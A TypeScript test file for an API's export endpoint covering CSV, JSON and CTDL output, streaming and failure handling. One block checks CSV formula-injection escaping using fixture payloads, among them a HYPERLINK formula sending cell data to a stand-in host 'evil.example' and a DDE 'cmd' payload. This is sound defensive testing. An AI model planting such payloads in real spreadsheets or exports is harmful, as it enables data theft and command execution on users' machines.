import { expect } from "chai";
import { parse } from "csv-parse/sync";
import { Ajv2020 } from "ajv/dist/2020.js";
import { bearer, createTestApp, type TestApp } from "../helpers/app.ts";
import { expectContract, expectProblem } from "../helpers/contract.ts";
import { COURSES, loadInstitutions, postCourses, SANDBOX_INSTITUTION } from "../helpers/fixtures.ts";
import {
  CSV_COLUMNS,
  EQUIVALENCY_NAME_COLUMNS,
  createExportsService,
  type ExportFormat,
} from "../../src/services/exports/index.ts";
import { createExportsRepository } from "../../src/repositories/exports.ts";
import type { Credential } from "../../src/auth/credential.ts";
import { flatten } from "../../src/services/exports/tabular.ts";
import type { Db } from "../../src/services/types.ts";
import { loadSpec } from "../../src/pipeline/contract.ts";
import { createApp } from "../../src/app/app.ts";
import { createLogger } from "../../src/kernel/logger.ts";
import supertest from "supertest";
import { drain } from "../helpers/streams.ts";

type GetResponses = { get: { responses: Record<string, { content: Record<string, { schema: object }> }> } };
const exportPath = (loadSpec() as unknown as { paths: Record<string, GetResponses> }).paths["/exports"];
const ctdlSchema = exportPath.get.responses["200"].content["application/ld+json"].schema;
const validateCtdl = new Ajv2020({ strict: false }).compile(ctdlSchema);

const TRICKY_TITLE = 'Programming, "Honors" Edition';
const MULTILINE_DESCRIPTION = "First line.\nSecond line.";
const LICENSE_LINK = '<https://creativecommons.org/licenses/by/4.0/>; rel="license"';
const DISPOSITION = (name: string, ext: string) =>
  new RegExp(`^attachment; filename="${name}-\\d{4}-\\d{2}-\\d{2}\\.${ext}"$`);

async function setup(t: TestApp) {
  await loadInstitutions(t.database.prisma, "live");
  await loadInstitutions(t.database.prisma, "sandbox", [SANDBOX_INSTITUTION]);
  const c = await postCourses(t, [
    { ...COURSES["CS 55"], title: TRICKY_TITLE, description: MULTILINE_DESCRIPTION },
    { ...COURSES["MATH 7"], cipCode: undefined },
    COURSES["CS 61B"],
  ]);
  const post = (body: object) => t.http.post("/api/v1/equivalencies").set(bearer(t.keys.live)).send(body);
  await post({
    sourceCourseId: c["CS 55"],
    targetInstitutionId: "inst_110635",
    targetCourseId: c["CS 61B"],
    status: "accepted",
    decidedBy: "UC Berkeley Admissions",
    policyBasis: "TCA 2024-25",
  });
  await post({ sourceCourseId: c["MATH 7"], targetInstitutionId: "inst_110662", targetCode: "MATH 31A" });
  await t.http
    .post("/api/v1/courses")
    .set(bearer(t.keys.sandbox))
    .send([{ institutionId: "inst_100654", code: "SBX 1", title: "Sandbox only", credits: 3, level: "lower" }]);
  return c;
}

describe("exports: exportData (GET /exports)", () => {
  let t: TestApp;
  let c: Record<string, string>;
  const get = (query: string, key = t.keys.live) => t.http.get(`/api/v1/exports${query}`).set(bearer(key));
  const list = async (path: string) =>
    (await t.http.get(`/api/v1${path}?limit=100`).set(bearer(t.keys.live))).body.data;
  const csvRecords = (text: string) => parse(text, { columns: true }) as Record<string, string>[];

  before(async () => {
    t = await createTestApp();
    c = await setup(t);
  });
  after(() => t.close());

  it("defaults to equivalencies as CSV with a header row, the license link and a dated file name", async () => {
    const response = await get("");
    await expectContract(response, 200);
    expect(response.headers["content-type"]).to.equal("text/csv; charset=utf-8");
    expect(response.headers["content-disposition"]).to.match(DISPOSITION("equivalencies-live", "csv"));
    expect(response.headers.link).to.equal(LICENSE_LINK);
    expect(response.headers["x-ratelimit-limit"]).to.be.a("string");
    expect(response.text.split("\r\n")[0]).to.equal(CSV_COLUMNS.equivalencies.join(","));
    const records = csvRecords(response.text);
    expect(records.map((r) => r.sourceCourseId)).to.deep.equal([c["CS 55"], c["MATH 7"]]);
    expect(records[0]).to.include({
      status: "accepted",
      targetCode: "CS 61B",
      version: "1",
      provenance: "channel_a",
      datasetVersionId: "",
      sourceCourseIds: JSON.stringify([c["CS 55"]]),
      sourceCourseCodes: "CS 55",
      sourceInstitutionName: "Santa Monica College",
      targetCodes: "CS 61B",
      kind: "equivalent",
      priority: "0",
    });
    expect(records[1]).to.include({ status: "pending", targetCourseId: "", decidedAt: "", decidedBy: "" });
  });

  it("quotes cells with commas, quotes and line breaks in CSV, and writes nulls as empty cells", async () => {
    const response = await get("?resource=courses&format=csv");
    await expectContract(response, 200);
    expect(response.headers["content-disposition"]).to.match(DISPOSITION("courses-live", "csv"));
    expect(response.text).to.contain('"Programming, ""Honors"" Edition"');
    expect(response.text).to.contain('"First line.\nSecond line."');
    const records = csvRecords(response.text);
    expect(Object.keys(records[0])).to.deep.equal([...CSV_COLUMNS.courses]);
    const tricky = records.find((r) => r.code === "CS 55");
    expect(tricky).to.include({ title: TRICKY_TITLE, description: MULTILINE_DESCRIPTION, credits: "3" });
    expect(records.find((r) => r.code === "MATH 7")).to.include({ description: "", cipCode: "" });
  });

  it("exports institutions as CSV in name order", async () => {
    const response = await get("?resource=institutions");
    await expectContract(response, 200);
    const records = csvRecords(response.text);
    expect(response.text.split("\r\n")[0]).to.equal("id,ipedsId,name,city,state,type,system,source");
    expect(records.map((r) => r.id)).to.deep.equal((await list("/institutions")).map((i: { id: string }) => i.id));
    expect(records.find((r) => r.id === "inst_122977")).to.include({ system: "" });
  });

  for (const resource of ["equivalencies", "courses", "institutions"]) {
    it(`exports ${resource} as a JSON array equal to the list operation's data`, async () => {
      const response = await get(`?resource=${resource}&format=json`);
      await expectContract(response, 200);
      expect(response.headers["content-type"]).to.equal("application/json");
      expect(response.headers["content-disposition"]).to.match(DISPOSITION(`${resource}-live`, "json"));
      expect(response.headers.link).to.equal(LICENSE_LINK);
      expect(response.body).to.deep.equal(await list(`/${resource}`));
    });
  }

  it("exports equivalencies as CTDL JSON-LD, one TransferValueProfile per equivalency", async () => {
    const response = await get("?format=ctdl");
    // expectContract validates every JSON body against the first media type (the array), so check this one here.
    expect(response.status).to.equal(200);
    expect(validateCtdl(JSON.parse(response.text)), JSON.stringify(validateCtdl.errors)).to.equal(true);
    expect(response.headers["content-type"]).to.equal("application/ld+json");
    expect(response.headers["content-disposition"]).to.match(DISPOSITION("equivalencies-live", "jsonld"));
    const document = JSON.parse(response.text);
    expect(document["@context"]).to.include("https://credreg.net/ctdl/schema/context/json");
    const graph = document["@graph"];
    expect(graph).to.have.length(2);
    const [accepted, pending] = graph;
    expect(accepted).to.include({
      "@type": "ceterms:TransferValueProfile",
      "ce:status": "accepted",
      "ce:provenance": "channel_a",
    });
    expect(accepted["ceterms:name"]["en-US"]).to.equal(
      "CS 55 (Santa Monica College) to CS 61B (University of California-Berkeley)",
    );
    expect(accepted["ceterms:startDate"]).to.match(/^\d{4}-\d{2}-\d{2}$/);
    expect(accepted["dcterms:license"]).to.deep.equal({ "@id": "https://creativecommons.org/licenses/by/4.0/" });
    const [from] = accepted["ceterms:transferValueFrom"];
    expect(from).to.include({ "@type": "ceterms:Course", "ceterms:codedNotation": "CS 55" });
    expect(from["ceterms:name"]["en-US"]).to.equal(TRICKY_TITLE);
    expect(from["ceterms:creditValue"][0]["schema:value"]).to.equal(3);
    expect(from["ceterms:ownedBy"][0]).to.include({
      "@type": "ceterms:CredentialOrganization",
      "ceterms:ipedsID": "122977",
    });
    expect(accepted["ceterms:transferValueFor"][0]).to.include({ "ceterms:codedNotation": "CS 61B" });
    expect(pending["ceterms:transferValueFor"][0]).to.include({ "ceterms:codedNotation": "MATH 31A" });
    expect(pending).to.not.have.property("ceterms:startDate");
  });

  it("exports only the caller's environment", async () => {
    const sandbox = await get("?resource=courses&format=json", t.keys.sandbox);
    await expectContract(sandbox, 200);
    expect(sandbox.body.map((course: { code: string }) => course.code)).to.deep.equal(["SBX 1"]);
    expect(sandbox.headers["content-disposition"]).to.match(DISPOSITION("courses-sandbox", "json"));
    const live = await get("?resource=courses&format=json");
    expect(live.body.map((course: { code: string }) => course.code)).to.not.include("SBX 1");
    const empty = await get("?format=ctdl", t.keys.sandbox);
    expect(JSON.parse(empty.text)["@graph"]).to.deep.equal([]);
    const header = await get("", t.keys.sandbox);
    expect(header.text).to.equal(`${CSV_COLUMNS.equivalencies.join(",")}\r\n`);
  });

  it("400 for format=ctdl with a resource other than equivalencies, and for unknown values", async () => {
    const response = await get("?resource=courses&format=ctdl");
    await expectContract(response, 400);
    expectProblem(response, "validation-failed");
    expect(response.body.errors.map((e: { pointer: string }) => e.pointer)).to.deep.equal(["/query/format"]);
    const unknown = await get("?format=xml");
    await expectContract(unknown, 400);
    expect(unknown.body.errors.map((e: { pointer: string }) => e.pointer)).to.deep.equal(["/query/format"]);
  });

  it("has one CSV column per field of each API representation (an equivalency's targets as the names of its courses)", async () => {
    const names = EQUIVALENCY_NAME_COLUMNS.filter((column) => column !== "sourceCourseIds");
    for (const resource of ["equivalencies", "courses", "institutions"] as const) {
      const [first] = await list(`/${resource}`);
      // The 1.2 columns of codes follow the fields they spell out (docs/exports.md).
      const spelled: Record<string, string[]> = {
        targets: names,
        sourceCourseSets: ["sourceCourseSets", "sourceCourseSetCodes"],
        targetChoice: ["targetChoice", "targetCourseCodes"],
      };
      const fields = Object.keys(flatten(first)).flatMap((field) =>
        resource === "equivalencies" ? (spelled[field] ?? [field]) : [field],
      );
      expect(fields, resource).to.deep.equal([...CSV_COLUMNS[resource]]);
    }
  });

  it("401 without a key", async () => {
    const response = await t.http.get("/api/v1/exports");
    await expectContract(response, 401);
    expectProblem(response, "unauthenticated");
  });
});

describe("exports: exportData, spreadsheet formulas in CSV", () => {
  // Each title starts with a character a spreadsheet reads as the start of a formula.
  const FORMULAS: Record<string, string> = {
    "=": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1,1)",
    tab: "\t=1+1",
    "carriage return": "\r=1+1",
    "full-width =": "\uFF1D1+1",
  };
  let t: TestApp;
  const get = (query: string) => t.http.get(`/api/v1/exports${query}`).set(bearer(t.keys.live));
  const csvRecords = (text: string) => parse(text, { columns: true }) as Record<string, string>[];

  before(async () => {
    t = await createTestApp();
    await loadInstitutions(t.database.prisma, "live");
    const items = Object.values(FORMULAS).map((title, index) => ({
      institutionId: "inst_122977",
      code: `F ${index}`,
      title,
      credits: 0,
      level: "lower",
    }));
    items.push({ institutionId: "inst_122977", code: "=1+1", title: "Calculus - part 1", credits: 3, level: "lower" });
    const courses = await t.http.post("/api/v1/courses").set(bearer(t.keys.live)).send(items);
    expect(courses.status).to.equal(201);
    const created = await t.http.post("/api/v1/equivalencies").set(bearer(t.keys.live)).send({
      sourceCourseId: courses.body.data[0].id,
      targetInstitutionId: "inst_110635",
      targetCode: "@X 1",
      status: "accepted",
      decidedBy: "=Registrar",
      policyBasis: "-policy",
    });
    expect(created.status).to.equal(201);
  });
  after(() => t.close());

  it("prefixes every text cell a spreadsheet would run as a formula with a single quote", async () => {
    const response = await get("?resource=courses&format=csv");
    await expectContract(response, 200);
    const titles = new Map(csvRecords(response.text).map((record) => [record.code, record]));
    Object.entries(FORMULAS).forEach(([leading, title], index) => {
      expect(titles.get(`F ${index}`)?.title, leading).to.equal(`'${title}`);
    });
    // A code is a text cell like any other; a dash inside a cell and numbers stay as they are.
    expect(titles.get("'=1+1")).to.include({ title: "Calculus - part 1", credits: "3" });
    expect(titles.get("F 0")).to.include({ credits: "0", version: "1" });
    const equivalencies = csvRecords((await get("?resource=equivalencies&format=csv")).text);
    expect(equivalencies[0]).to.include({
      targetCode: "'@X 1",
      decidedBy: "'=Registrar",
      policyBasis: "'-policy",
      version: "1",
    });
  });

  it("leaves JSON and CTDL exactly as stored", async () => {
    const json = await get("?resource=courses&format=json");
    await expectContract(json, 200);
    const stored = new Map(
      (json.body as { code: string; title: string }[]).map((course) => [course.code, course.title]),
    );
    Object.values(FORMULAS).forEach((title, index) => expect(stored.get(`F ${index}`)).to.equal(title));
    expect(stored.get("=1+1")).to.equal("Calculus - part 1");
    const ctdl = JSON.parse((await get("?format=ctdl")).text)["@graph"][0];
    expect(ctdl["ceterms:transferValueFrom"][0]["ceterms:name"]["en-US"]).to.equal(FORMULAS["="]);
    expect(ctdl["ceterms:transferValueFor"][0]["ceterms:codedNotation"]).to.equal("@X 1");
    expect(ctdl).to.include({ "ce:decidedBy": "=Registrar" });
    expect(ctdl["ceterms:description"]["en-US"]).to.equal("-policy");
  });
});

describe("exports: CSV columns", () => {
  it("flatten names nested fields with dots and keeps lists as JSON", () => {
    const flat = flatten({
      id: "eq_1",
      sourceCourse: { code: "CS 55", institution: { id: "inst_1", system: null } },
      tags: ["a"],
    });
    expect(flat).to.deep.equal({
      id: "eq_1",
      "sourceCourse.code": "CS 55",
      "sourceCourse.institution.id": "inst_1",
      "sourceCourse.institution.system": null,
      tags: '["a"]',
    });
  });
});

describe("exports: exportData over large tables", () => {
  const ROWS = 20_000;
  let t: TestApp;

  before(async () => {
    t = await createTestApp();
    const c = await setup(t);
    // Seven rows share each timestamp, so ties on createdAt straddle batch boundaries.
    await t.database.prisma.$executeRaw`
      INSERT INTO equivalencies (id, environment, source_course_id, target_institution_id, target_code, target_key, status, created_at, updated_at)
      SELECT 'eq_bulk_' || lpad((${ROWS} - n)::text, 6, '0'), 'live'::"Environment", ${c["MATH 7"]}, 'inst_110635',
             'BULK ' || n, 'code:BULK ' || n, 'pending'::"EquivalencyStatus",
             timestamp '2020-01-01' + (n / 7) * interval '1 millisecond', timestamp '2020-01-01'
      FROM generate_series(0, ${ROWS - 1}) AS n`;
  });
  after(() => t.close());

  /** A database whose equivalency reads are counted, and fail from call `failAt` on. */
  function observedDb(failAt = Infinity) {
    const reads: number[] = [];
    const db = t.database.prisma.$extends({
      query: {
        // The JSON batches are one JSON text each, the CSV ones one CSV text and its row count (src/repositories/exports.ts).
        async $queryRawUnsafe({ args, query }) {
          if (!String(args[0]).includes("FROM equivalencies")) return query(args);
          if (reads.length + 1 >= failAt) throw new Error("connection lost");
          const rows = (await query(args)) as { batch?: string; rows?: number }[];
          reads.push(rows[0].rows ?? (JSON.parse(rows[0].batch as string) as unknown[]).length);
          return rows;
        },
        equivalency: {
          async findMany({ args, query }) {
            if (reads.length + 1 >= failAt) throw new Error("connection lost");
            const rows = await query(args);
            reads.push(rows.length);
            return rows;
          },
        },
      },
    });
    return { db: db as unknown as Db, reads };
  }

  /** exportData of equivalencies for a live credential, over `db`. */
  function exportEquivalencies(db: Db, format: ExportFormat, batchSize?: number) {
    const caller: Credential = {
      kind: "api_key",
      id: "key_export",
      organizationId: t.organizationId,
      organizationSlug: "acme",
      channel: "channel_a",
      environment: "live",
      scopes: ["read:public"],
    };
    return createExportsService({
      exports: createExportsRepository(db),
      batchSize,
      renderedBatchSize: batchSize,
    }).exportData(caller, "equivalencies", format);
  }

  it("streams every row over HTTP, in (createdAt, id) order without repeats", async () => {
    const response = await t.http.get("/api/v1/exports?format=json").set(bearer(t.keys.live));
    expect(response.status).to.equal(200);
    const rows = response.body as { id: string; createdAt: string }[];
    expect(rows).to.have.length(ROWS + 2);
    expect(new Set(rows.map((r) => r.id)).size).to.equal(rows.length);
    const key = (r: { id: string; createdAt: string }) => [r.createdAt, r.id] as const;
    for (let i = 1; i < rows.length; i++) {
      const [previous, current] = [key(rows[i - 1]), key(rows[i])];
      expect(previous[0] < current[0] || (previous[0] === current[0] && previous[1] < current[1]), `row ${i}`).to.equal(
        true,
      );
    }
    const csv = await t.http.get("/api/v1/exports").set(bearer(t.keys.live));
    expect(csv.text.split("\r\n").filter(Boolean)).to.have.length(ROWS + 3);
  });

  it("reads in bounded batches, never the whole table at once", async () => {
    const { db, reads } = observedDb();
    const exported = await exportEquivalencies(db, "csv", 1_000);
    const { text, error } = await drain(exported.stream);
    expect(error).to.equal(null);
    expect(text.split("\r\n").filter(Boolean)).to.have.length(ROWS + 3);
    expect(Math.max(...reads)).to.equal(1_000);
    expect(reads).to.have.length(Math.floor((ROWS + 2) / 1_000) + 1);
    expect(reads.reduce((a, b) => a + b, 0)).to.equal(ROWS + 2);
  });

  it("reads lazily: a consumer that stops early stops the reading", async () => {
    const { db, reads } = observedDb();
    const exported = await exportEquivalencies(db, "json", 1_000);
    for await (const _chunk of exported.stream) break;
    expect(reads.length).to.be.at.most(3);
  });

  it("a database failure mid-stream destroys the stream with the error after what was sent", async () => {
    const { db } = observedDb(3);
    const exported = await exportEquivalencies(db, "csv", 1_000);
    const { text, error } = await drain(exported.stream);
    expect(error?.message).to.equal("connection lost");
    expect(text.split("\r\n").filter(Boolean)).to.have.length(1 + 2_000);
    expect(exported.stream.destroyed).to.equal(true);
  });

  it("over HTTP, a failure mid-stream truncates the response and is logged", async () => {
    const { db } = observedDb(3);
    const lines: string[] = [];
    const log = createLogger("info", { write: (line: string) => lines.push(line) });
    // The failure is injected into the batch reads through Prisma; on PostgreSQL the export would
    // otherwise stream through one COPY (Database.copyValues), whose failures
    // test/unit/export-copy.test.ts covers, and on the embedded database read its batches as bytes
    // (Database.readBytes), which test/unit/embedded-read-bytes.test.ts covers.
    const database = { ...t.database, prisma: db, copyValues: undefined, readBytes: undefined };
    const app = await createApp({ config: t.config, database, log, secrets: t.secrets });
    app.koa.silent = true;
    const outcome = await supertest(app.koa.callback())
      .get("/api/v1/exports")
      .set(bearer(t.keys.live))
      .then(() => null)
      .catch((error: Error) => error);
    // The headers went out with the first batches, so the client sees the connection cut mid-body.
    expect(outcome, "the client must not see a complete response").to.include({
      message: "aborted",
      code: "ECONNRESET",
    });
    const failure = lines
      .map((line) => JSON.parse(line))
      .find((entry) => entry.msg?.startsWith("export failed mid-stream"));
    expect(failure).to.include({ level: 50, resource: "equivalencies", format: "csv", operationId: "exportData" });
    expect(failure.err.message).to.equal("connection lost");
  });

  it("what Koa reports after a response began goes to the log: a client that left at debug, anything else as a warning", async () => {
    const lines: string[] = [];
    const log = createLogger("debug", { write: (line: string) => lines.push(line) });
    const app = await createApp({ config: t.config, database: t.database, log, secrets: t.secrets });
    // With a listener of its own, Koa no longer prints these to stderr.
    expect(app.koa.listenerCount("error")).to.equal(1);
    app.koa.emit("error", Object.assign(new Error("Premature close"), { code: "ERR_STREAM_PREMATURE_CLOSE" }));
    app.koa.emit("error", new Error("socket exploded"));
    const entries = lines
      .map((line) => JSON.parse(line) as { level: number; msg: string; err?: { message: string } })
      .filter((entry) => entry.err);
    expect(entries.map((e) => [e.level, e.msg, e.err?.message])).to.deep.equal([
      [20, "the client left before the response ended", "Premature close"],
      [40, "the response ended early", "socket exploded"],
    ]);
    await app.close();
  });

  it("a database failure on the first batch is thrown before any stream exists", async () => {
    const { db } = observedDb(1);
    let thrown: unknown = null;
    await exportEquivalencies(db, "ctdl").catch((error) => (thrown = error));
    expect((thrown as Error).message).to.equal("connection lost");
  });
});
